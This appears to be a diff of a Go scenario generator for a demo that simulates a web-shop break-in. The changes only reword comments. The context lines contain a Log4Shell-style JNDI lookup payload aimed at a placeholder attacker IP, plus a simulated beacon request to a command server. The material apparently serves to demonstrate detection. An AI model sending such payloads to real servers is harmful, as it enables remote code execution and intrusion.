@@ -34,8 +34,8 @@ func (s *scenario) addStory() {
 	s.addBreakIn(7 * time.Second)
 }
 
-// addVisit adds one visit of the shop, with the number visit: a page, for which the web server asks the cache
-// and, after a miss, the database.
+// addVisit adds the visit of one customer: a request for a page, for which the web server queries the cache
+// and, after a miss, the database. visit is the number of the visit.
 func (s *scenario) addVisit(at time.Duration, client string, visit int) {
 	paths := []string{"/", "/items", fmt.Sprintf("/items/%d", 100+visit), "/cart", "/static/shop.css"}
 	path := paths[visit%len(paths)]
@@ -72,7 +72,8 @@ func (s *scenario) addBreakIn(at time.Duration) {
 		"2026/11/01 12:00:08 search: no result for query \"${jndi:ldap://203.0.113.66:1389/a}\"")
 	s.addLogLine(web.Name, at+2300*time.Millisecond, "stderr", "sh: 1: /tmp/x: Permission denied")
 
-	// The web container calls the command server, first by its name and then by generated names.
+	// The web container calls the command server, first by its name. The generated names that it looks up
+	// then do not exist.
 	s.addLookup(at+3*time.Second, demo.FeedDomain, commandServer)
 	s.addHTTP(at+3200*time.Millisecond, web.Ip[0], commandServer,
 		getRequest("/beacon?h=shop-web", demo.FeedDomain, "curl/7.88.1"), 200, 64)
